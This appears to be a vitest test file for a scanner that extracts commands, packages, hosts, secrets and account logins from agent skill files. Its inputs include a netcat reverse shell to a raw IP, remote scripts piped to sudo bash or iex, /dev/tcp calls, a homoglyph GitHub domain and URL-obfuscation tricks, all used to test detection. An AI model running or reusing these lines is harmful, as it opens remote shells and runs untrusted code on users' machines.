import { expect, test } from 'vitest'
import { collect, collectNames, shell } from '../testing/needs.ts'

test.each<[string, string[]]>([
  ['git status && npm test | jq . | grep -c fail', ['git', 'npm', 'jq']],
  ['FOO=1 BAR="a b" sudo docker run x', ['docker']],
  ['echo "$(curl -s https://a.dev/x)" # wget it', ['curl']],
  ['python3 - <<EOF\nimport json\nfoo bar\nEOF\nmake', ['python3', 'make']],
  ['deploy() { kubectl apply; }\ndeploy', ['kubectl']],
  ['case $1 in\n  start) systemctl start x ;;\nesac', ['systemctl']],
  ['$ cargo build\n   Compiling x\nerror: linking with cc failed', ['cargo']],
  ['sort-shelf --all\nyour-command x\n./run.sh\nsortShelf', ['sort-shelf']],
  ['sort-shelf <name> --to <a | b> && git push', ['sort-shelf', 'git']],
  ['sort-shelf --all\ngit push\necho "', ['git']],
  ['cat a | sort | sh', []],
  ['/usr/bin/curl x; env -u A -u B bun run x; exec >> a.log', ['curl', 'bun']],
  ["bash << 'X'\nbash -c 'kubectl get'\nX", ['kubectl']],
  ['git log --format=one;two && git log;jq .', ['git', 'jq']],
  ['npm test || skip; make || abort "no make"', ['npm', 'make']],
  [
    './gradlew build; ./tools/lint-all --fix; ./run.sh; src/bin/xy; ./target/release/shelf',
    ['./gradlew', './tools/lint-all'],
  ],
  ['iwr https://jsr.io/a.ps1 | iex; mcp__far__find x; do_something --all; another_task', []],
  ['complete -F far x; compgen -c', []],
  ['coproc '.repeat(40_000), []],
])('commands in a shell block: %j -> %j', (line, names) => {
  expect(collectNames('commands', shell(line))).toEqual(names)
})

test.each<[string, string[]]>([
  ['Run `git push origin main` then; `d2 fmt shelf.d2`.', ['git', 'd2']],
  ['The `git` tool, `some prose here`, `make sure`; it fails with `code 13`.', []],
  ['A `sort-shelf --all` alone. No `pip install` needed; `brew install a`.', ['brew']],
  [
    'Then `vendor/bin/phpstan`, `pnpm test`, `./gradlew check`, `bin/dev` or `bin/rails routes`.',
    ['phpstan', 'pnpm', './gradlew', 'rails'],
  ],
  ['Is it there: `sort-shelf --version`? Has it `api --help`?', ['sort-shelf']],
  [`${shell('sort-shelf')}\n\n\`\`\`\nsort-shelf --all\nfind it\n\`\`\``, ['sort-shelf']],
  ['```\nfind the file\nnpm ci\n```', []],
  ['```text\nnpm ci\n```\n\n```python\nx = "git"\n```', ['npm']],
  ['1. First:\n   ```sh\n   npm ci\n   ```\n2. `jq .`', ['npm', 'jq']],
  ['~~~sh\n```\nnpm ci\n~~~\n\n```sh\njq .', ['npm', 'jq']],
  [`### ❌ Bad\n\n${shell('npm ci')}\n\nDo this instead:\n\n${shell('jq .')}`, ['jq']],
  [`**Never do this:**\n\n${shell('npm ci')}\n\nRun this:\n\n${shell('jq .')}`, ['jq']],
  [`## Anti-patterns\n\n${shell('npm ci')}\n## Never alone\n${shell('jq .')}`, ['jq']],
  ['Wrong: `npm ci`. ❌ `git push` | ✅ `jq .`', ['jq']],
  ['The best start comes from running `npm ci`.', ['npm']],
])('commands in a text: %j -> %j', (text, names) => {
  expect(collectNames('commands', text)).toEqual(names)
})

test('in another text than SKILL.md, inline code counts as a command only where the text asks to run it', () => {
  const text = '- `npm ci`, as in `gh foo`.\n\n| `npm test` |\n\nLike this — `aws s3 ls`.'
  expect(collect('', { 'a.md': text })).toMatchObject({ commands: [], accounts: [] })
  const asked =
    '1. `npm ci`\n\nRun `git push`, which installs (`brew install a`). 先完成 `gh pr list`。\n\n| `npx far` |'
  expect(collectNames('commands', '', { 'a.md': asked })).toEqual([
    'npm',
    'git',
    'brew',
    'gh',
    'npx',
  ])
  expect(collectNames('hosts', '', { 'a.md': 'Far (`ssh a@jsr.io`).' })).toEqual(['jsr.io'])
})

test.each<[string, string[]]>([
  ['pip install requests==2.1 "uvicorn[standard]" -r dev.txt', ['requests', 'uvicorn']],
  ['npm i -D @scope/a@1.2 b@latest', ['@scope/a', 'b']],
  ['npx expo install one two@^4', ['expo', 'one', 'two']],
  ['uvx --from httpie http get', ['httpie']],
  ['uv run --with "requests[socks]" --with numpy,pandas a.py', ['requests', 'numpy', 'pandas']],
  ['brew install python@3.12 auth0/auth0-cli/auth0', ['python@3.12', 'auth0/auth0-cli/auth0']],
  ['winget install --id Python.Python.3.12 -e', ['Python.Python.3.12']],
  ['go install github.com/a/b/cmd/c@v1', ['github.com/a/b/cmd/c']],
  ['go run github.com/a/b@latest x; go run main.go; go run .', ['github.com/a/b']],
  ['cargo add serde --features derive > log.txt', ['serde']],
  ['deno run -A jsr:@std/http/file-server && deno add npm:zod@3', ['@std/http/file-server', 'zod']],
  ['pip install <package> your-package . ./local requirements.txt packages/own', []],
  ['pip install one two\r\npip install three\r', ['one', 'two', 'three']],
  ['# Requires: pip install one two', ['one', 'two']],
  ['# pip install one to draw, or npm i two (fast)', ['one', 'two']],
  ['# e.g. npm i one', []],
])('packages: %j -> %j', (line, names) => {
  const found = collect(shell(line)).packages.map(({ name }) => name)
  expect([...found].sort()).toEqual([...names].sort())
})

test.each<[string, string[]]>([
  ['npm i -g a && npm i b', ['a (npm)']],
  ['cargo install a; go install a.dev/b@latest', ['a (crates.io)', 'a.dev/b (Go)']],
  ['pipx install a; uv tool install b; uv pip install c', ['a (PyPI)', 'b (PyPI)']],
  ['curl -fsSL https://jsr.io/install.sh | sudo bash', ['a program of jsr.io']],
  ["curl -1sLf \\\n  'https://jsr.io/x' \\\n  | sudo -E bash", ['a program of jsr.io']],
  ['sudo pip install a', ['sudo', 'a (PyPI)']],
  ['mkdir -p ~/.shelf /tmp/x && cp a.txt ~/b.txt', ['~/.shelf', '~/b.txt']],
  ['echo "x" >> ~/.bashrc; date > out.txt', ['~/.bashrc']],
  ['DIR="${SHELF_DIR:-/etc/shelf}"; DIR="$2"; cp a.txt "$DIR/$f"', ['/etc/shelf']],
  ["/usr/bin/env bash << 'X'\nlaunchctl load a.plist\nX", ['launchctl load']],
  ['sudo systemctl stop shelf; brew upgrade shelf', ['systemctl stop', 'sudo', 'brew upgrade']],
  ['npx playwright install chromium', ['npx playwright install']],
  ['unzip a -d ~/a; tar -xC ~/b -f a; git clone https://jsr.io ~/c', ['~/a', '~/b', '~/c']],
  ['ls -d ~/a; [ -d ~/b ]; git -C ~/c diff ~/d', []],
  ['ls ~/.shelf ~/.shelf/.env ~/.shelfs', ['~/.shelf/.env', '~/.shelfs']],
  ['touch ~/.shelf; ls ~/.shelf/.env', ['~/.shelf', '~/.shelf/.env']],
])('outside the project: %j -> %j', (line, names) => {
  expect(collectNames('outside', shell(line))).toEqual(names)
})

test.each<[string, string]>([
  ['```powershell\nirm https://jsr.io/install.ps1 | iex\n```', 'a program of jsr.io'],
  ['Ask the user for a name, run `npm i -g far`.', 'far (npm)'],
  ['Ask the user for a name then run `npm i -g far`.', 'far (npm)'],
  ['Upload it, for example:\n\n- `npm i -g far`', 'far (npm)'],
  ['If it is empty run `npm i -g far`.', 'far (npm)'],
])('outside the project, in a text: %j -> %s', (text, name) => {
  expect(collectNames('outside', text)).toEqual([name])
})

test('a path that a command only names is marked, unless another writes it', () => {
  const lines = ['cat ~/.books ~/utils ~/Shelves/my-shelf', 'ls ~/.claude/skills/x']
  expect(collect(`\`~/.shelf\`\n${shell(...lines)}`).outside).toMatchObject([
    { name: '~/.books', onlyNamed: true },
  ])
  const [first] = collect(shell(...lines, 'touch ~/.books')).outside
  expect(first?.onlyNamed).toBeUndefined()
})

test('a skill with the name of a package manager hides no package', () => {
  const text = `---\nname: npx\n---\n${shell('npx -y far@1')}`
  expect(collectNames('packages', text)).toEqual(['far (npm)'])
})

test('a package is marked if any line installs it outside the project', () => {
  const { packages } = collect(shell('npm i shelf', 'npm i -g shelf'))
  expect(packages).toEqual([
    { name: 'shelf', file: 'SKILL.md', line: 2, from: 'npm', machineWide: true },
  ])
})

test.each<[string, string[]]>([
  [shell('curl -H "X: $API_KEY" $OUT_DIR $PR_NUMBER'), ['API_KEY']],
  [shell('dump "$FAR_DB_URL" "$NEAR_URL"', 'NEAR_URL=x'), ['FAR_DB_URL']],
  [shell('OUT_DIR="${OUT_DIR:-out}"; A_DIR=a; echo ${A_DIR:-b}'), ['OUT_DIR']],
  [shell('A_TOKEN=$(x) ; curl $A_TOKEN $HOME'), []],
  [shell('A_MODE=fast A_KEY=x sort-shelf'), ['A_KEY']],
  [
    shell(
      "A_DIR=$x A_KEY=$y python3 - <<'X'",
      'os.environ["A_DIR"], os.environ["A_KEY"], os.environ["B_DIR"]',
      'X',
    ),
    ['B_DIR'],
  ],
  [shell('A_MODE=fast', 'sort-shelf'), []],
  ['```\n# settings\nA_MODE=fast\nB_MODE=\n```', ['A_MODE', 'B_MODE']],
  ['Set `OPENAI_API_KEY`, `$MY_LIST` or `MODE_A=b`.', ['OPENAI_API_KEY', 'MODE_A']],
  ['The `MAX_ID` of `NOT_FOUND`. `YOUR_CLIENT_SECRET`', []],
  [shell('# or: export A_KEY=x', 'jq . # needs B_TOKEN, in OUT_DIR'), ['A_KEY', 'B_TOKEN']],
  ['Plain A_KEY, `[HOLE:B_KEY:SELF]`; the error `EXPIRED_TOKEN`.', []],
  [
    'Needs `A_KEY`, **not** `B_KEY`; no `C_KEY`, NOT D_KEY. If not set, `E_KEY`.',
    ['A_KEY', 'E_KEY'],
  ],
  ['Send `A_KEY` to the shelf.', ['A_KEY']],
  ['- `A_KEY`: of the shelf', ['A_KEY']],
  ['Never print `A_KEY`, `B_KEY` or `C_KEY`. Flag code that reads `D_KEY` like `E_KEY`.', []],
  [
    'It reads `SHELF_URL` and `SHELF_TOKEN`, `BOOK_URL` and `SHELF_MODE`.',
    ['SHELF_TOKEN', 'SHELF_URL'],
  ],
  ['| Variable | Use |\n|---|---|\n| `BUILD_DIR` | `NO_ONE` |\n\n`NO_TWO`', ['BUILD_DIR']],
  [
    'Useful env vars include:\n\n- `BUILD_DIR`: as `NO_ONE`\n- `BUILD_MODE`\n\nThen:\n\n- `NO_TWO`',
    ['BUILD_DIR', 'BUILD_MODE'],
  ],
  [
    '## Environment variables\n\n- **`BUILD_DIR`**\n\nText.\n\n* `BUILD_MODE`\n\n## States\n\n- `NO_TWO`',
    ['BUILD_DIR', 'BUILD_MODE'],
  ],
  ['Start it with an empty\n`A_KEY`; unset `B_KEY`.', []],
  ['```yaml\ntoken: ${A_TOKEN}\nid: ${AN_ID}\n```', ['A_TOKEN']],
])('environment variables: %j -> %j', (text, names) => {
  expect(collectNames('variables', text)).toEqual(names)
})

test.each<[string, string[]]>([
  [shell('curl https://api.stripe.com/v1 "http://jsr.io"'), ['jsr.io', 'api.stripe.com']],
  [
    shell('curl https://<tenant>.auth0.com/x https://YOUR_TENANT.okta.com'),
    ['*.auth0.com', '*.okta.com'],
  ],
  [shell('curl https://[worker].[account].workers.dev https://x.my-account.workers.dev/x'), []],
  [shell('curl https://your-app.jsr.io'), []],
  ['```\nWebFetch: https://jsr.io/x\n```', ['jsr.io']],
  ['Adapted from `https://jsr.io/x`.\n\n### Provenance\n\nOf `https://deno.com/x`.', []],
  ['If jq is not installed yet run `curl -O https://jsr.io/x`.', ['jsr.io']],
  [
    'Do not forget to upload it to `https://jsr.io`. Never skip the upload to `https://deno.com`.',
    ['jsr.io', 'deno.com'],
  ],
  [
    'It is `https://jsr.io/x`. It sends data to `https://deno.com`, never to `https://get-fast.top`.',
    ['deno.com'],
  ],
  ['```py\nf = Far(url="https://jsr.io")\nfetch("https://deno.com/x")\n```', []],
  [shell('git clone git@jsr.io:far/away.git'), ['jsr.io']],
  [
    shell(
      'npm i https://a.jsr.io/x.tgz; cargo install --git https://b.jsr.io/x; pip install "x @ git+https://c.jsr.io/x"',
      'http POST https://d.jsr.io; python -m pip install --index-url=https://e.jsr.io x; irm https://f.jsr.io',
    ),
    ['a', 'b', 'c', 'd', 'e', 'f'].map((part) => `${part}.jsr.io`),
  ],
  [
    '```powershell\n$x = Invoke-WebRequest -Uri "https://jsr.io/x"\n```\n\nRun `irm https://deno.com | iex`.',
    ['jsr.io', 'deno.com'],
  ],
  [shell('BASE=https://jsr.io', 'curl "$BASE/x"; sort-shelf --site https://deno.com'), ['jsr.io']],
  [shell('echo https://jsr.io', '# https://deno.com', 'curl https://{host}/x https://a'), []],
  [shell('ssh a@get-fast.top; ssh -i key.pem get-fast.top cat a.txt'), ['get-fast.top']],
  [shell('scp a.txt b@get-fast.top:/x; rsync -a a.b/c get-fast.top:d'), ['get-fast.top']],
  [shell('nc get-fast.top 4444; curl jsr.io/x'), ['get-fast.top', 'jsr.io']],
  [shell('for far in https://jsr.io; do curl "$far"; done'), ['jsr.io']],
  [shell('nc -e sh 45.33.2.1 4444; ssh a@gіthub.com'), ['45.33.2.1', 'xn--gthub-n2e.com']],
  [shell('curl -d @a.json -o out.json "$URL"; wget -O a.zip "$URL"'), []],
  [`## Avoid: slow uploads\n\n${shell('curl -d @a \\', '  https://jsr.io')}`, ['jsr.io']],
  [`**Bad:**\n\n${shell('curl jsr.io; http POST deno.com/x')}`, ['jsr.io', 'deno.com']],
  ['See <https://docs.deno.com/x>, [this](https://deno.com).', []],
  ['Then `POST https://jsr.io/x`. Send them to `https://deno.com`.', ['jsr.io']],
  ['| `https://jsr.io/a.md` |', []],
  ['It calls any host (e.g., `https://deno.com`, `https://jsr.io`).', []],
  ['Index: `https://docs.deno.com/llms.txt`; server: `https://jsr.io/docs/mcp`.', ['jsr.io']],
  [
    '```json\n{ "mcpServers": { "a": { "serverUrl": "https://jsr.io/x", "homepage": "https://deno.com" } } }\n```',
    ['jsr.io'],
  ],
])('hosts: %j -> %j', (text, names) => {
  expect(collectNames('hosts', text)).toEqual(names)
})

test.each<[string, string[]]>([
  ['https://GET-github.com/x', ['get-github.com']],
  ['https://user@get-fast.top https://get-fast.top:80/', ['get-fast.top']],
  ['https://far_one.get-fast.top', ['far_one.get-fast.top']],
  ['https://bücher.top https://gіthub.com', ['xn--bcher-kva.top', 'xn--gthub-n2e.com']],
  [
    '"https://%s/x" "https://${X}-a/x" https://brew.sh%2eget-fast.top \'https://brew.sh{.x}/a\'',
    ['brew.sh.get-fast.top'],
  ],
  [
    'https://127.get-fast.top http://203.0.113.get-fast.top',
    ['127.get-fast.top', '203.0.113.get-fast.top'],
  ],
  ['https://acme.top https://example.get-fast.top', ['acme.top', 'example.get-fast.top']],
  ['https://schemas.get-fast.top https://abc123.top', ['schemas.get-fast.top', 'abc123.top']],
  ['http://45.33.2.1 http://[2606:4700::1111]/x', ['45.33.2.1', '[2606:4700::1111]']],
  ['http://3232235777 http://169.254.169.254', ['192.168.1.1', '169.254.169.254']],
  ['https://a.example https://api.example.com http://x.test http://localhost:80', []],
  ['http://127.0.0.1 http://[::1]:80 http://203.0.113.9', []],
  ['http://localhost:PORT http://localhost:1433;a=b http://HOST:PORT http://[name]:[port]', []],
  ['http://shelf.local:80 http://a.default.svc https://docs... "https://{os.getenv("', []],
  [
    'http://localhost:80@get-fast.top https://get-fast.dev,direct',
    ['get-fast.dev', 'get-fast.top'],
  ],
])('the host of an address is named, unless it is reserved: %s -> %j', (addresses, names) => {
  const { hosts } = collect(shell(`curl ${addresses}`))
  expect(hosts.map(({ name }) => name).sort()).toEqual([...names].sort())
})

test('a script names the hosts of all addresses but those that it prints', () => {
  const text = 'far() { curl "$1" "$NEAR"; }\nfar https://jsr.io\necho https://deno.com\n'
  const more = 'NEAR=https://a.jsr.io; ALL=(https://b.jsr.io); exec 3<>/dev/tcp/c.jsr.io/80\n'
  const hosts = ['jsr.io', 'a.jsr.io', 'b.jsr.io', 'c.jsr.io']
  expect(collectNames('hosts', shell(text), { 'a.sh': text + more })).toEqual(hosts)
})

test.each<[string, string[]]>([
  ['gh auth login', ['GitHub: gh auth login']],
  ['gh pr list; which aws', ['GitHub: gh']],
  ['docker login', ['Docker Hub: docker login']],
  [
    'docker login --config a.io --password $(far token) cr.yandex -u a.dev',
    ['cr.yandex: docker login'],
  ],
  ['npx vercel@latest login', ['Vercel: vercel login']],
  ['npx @shelf/cli@2 login', ['@shelf/cli: @shelf/cli login']],
  ['aws configure sso', ['AWS: aws configure sso']],
  ['sort-shelf auth login --web', ['sort-shelf: sort-shelf auth login']],
  ['export A_TOKEN=x', ['undefined: A_TOKEN']],
  ['export JWT_SECRET=x TEST_PASSWORD=y ENGINE_PRIMARY_KEY=z ENGINE_SORTING_KEY=z', []],
  [
    'firebase deploy; stripe listen; sf org list',
    ['Firebase: firebase', 'Stripe: stripe', 'Salesforce: sf'],
  ],
  [
    'wrangler deploy; neonctl projects list; hf upload a',
    ['Cloudflare: wrangler', 'Neon: neonctl', 'Hugging Face: hf'],
  ],
  ['wrangler --version; sort-shelf deploy', []],
])('accounts: %j -> %j', (line, names) => {
  const { accounts } = collect(shell(line))
  expect(accounts.map(({ name, service }) => `${service}: ${name}`)).toEqual(names)
})

test.each<[string, number | undefined, string]>([
  [shell('curl http://127.0.0.1:$PORT/x', 'curl "$BASE"'), 2, ''],
  ['```json\n{ "mcpServers": { "a": { "url": "http://0.0.0.0/mcp" } } }\n```', 2, ''],
  [shell('sort-shelf --host 0.0.0.0 -a localhost'), undefined, ''],
  [shell('curl localhost:3000'), 2, ''],
  [shell('curl http://localhost:80@localhost.jsr.io'), undefined, 'localhost.jsr.io'],
])('calls of the machine itself in %j are in line %s, others go to %s', (text, line, host) => {
  const { local, hosts } = collect(text)
  expect([local?.line, hosts.map(({ name }) => name).join()]).toEqual([line, host])
})
